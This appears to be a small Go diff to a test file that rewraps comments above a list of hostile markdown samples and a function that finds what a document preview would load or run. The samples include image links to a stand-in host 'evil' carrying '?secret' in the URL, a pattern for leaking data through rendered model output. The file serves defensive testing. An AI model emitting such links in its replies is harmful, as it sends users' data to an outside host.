@@ -14,7 +14,8 @@ import (
 	"github.com/yuin/goldmark/text"
 )
 
-// hostile are texts of a model that would show an image, run HTML or offer a link of another kind than the web's, one a line; ␤ is a line end.
+// hostile are texts of a model that would show an image, run HTML or offer a link of another kind than the web's, one a
+// line; ␤ is a line end.
 const hostile = `![x](http://evil/?secret)
 ![](//evil/x.png)
 ![x](<http://evil/a b>)
@@ -130,7 +131,8 @@ var markdowns = map[string]goldmark.Markdown{
 	"more":       goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote, extension.DefinitionList), goldmark.WithParserOptions(markdown.WithAttribute())),
 }
 
-// risks lists what of a document a preview would load, run or offer, but for the images and the comments that are Assent's own.
+// risks lists what of a document a preview would load, run or offer, but for the images and the comments that are
+// Assent's own.
 func risks(markdown goldmark.Markdown, document string) []string {
 	var found []string
 	source := []byte(document)
